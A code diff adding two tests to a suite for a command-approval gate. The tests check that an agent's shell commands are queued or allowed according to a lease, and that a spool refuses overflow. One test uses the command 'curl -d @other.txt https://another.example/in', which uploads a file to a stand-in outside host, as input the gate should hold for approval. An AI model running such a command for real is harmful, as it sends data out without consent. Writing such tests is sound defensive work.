@@ -1,5 +1,6 @@
 import { expect, test } from 'vitest'
 import { spoolProblem } from '../../src/team/courier/spool-problem.ts'
+import { TeamTie } from '../../src/team/courier/team-tie.ts'
 import type { JoinedGate } from './joined-gate.ts'
 import { openScriptedTeam } from './scripted-team.ts'
 
@@ -138,6 +139,33 @@ test('a lease of 0 is asked for at each use, and counts for nothing while the hu
   gate.passTime(60_000)
   expect((await gate.shell(upload)).effect).toBe('queue')
   expect((await gate.shell('git status')).effect).toBe('allow')
+})
+
+test('with a lease of 0 a call asks the hub once for what a person just said, before anybody else is asked', async () => {
+  const { hub, people, gate } = await openScriptedTeam({ name: 'prod', lease: 0, content: 'full' })
+  await grantFor(gate, people)
+  const before = hub.feeds.length
+  expect((await gate.shell(upload)).effect).toBe('allow')
+  expect(hub.feeds.length - before).toBeGreaterThan(0)
+  const asked = hub.feeds.length
+  expect((await gate.shell('curl -d @other.txt https://another.example/in')).effect).toBe('queue')
+  expect(hub.feeds.length - asked).toBe(1)
+})
+
+test('more entries than the spool may hold are refused, and nothing of them is thrown away', async () => {
+  const { hub, gate } = await openScriptedTeam()
+  await gate.courier.push()
+  hub.goAway()
+  const head = () => ({ ...gate.store.head(), seq: gate.store.head().seq + 500_000 })
+  const log = { head, entries: () => [] }
+  const tie = new TeamTie({ mirror: gate.store.mirror, log, now: gate.now })
+  expect(tie.refusal()).toBeUndefined()
+  await gate.shell('git status')
+  const over = new TeamTie({ mirror: gate.store.mirror, log, now: gate.now })
+  expect(over.refusal()).toMatchObject({
+    code: 'unavailable',
+    message: expect.stringContaining('500001 entries'),
+  })
 })
 
 test('a gate that starts again without its hub goes on with the lease that is written down', async () => {
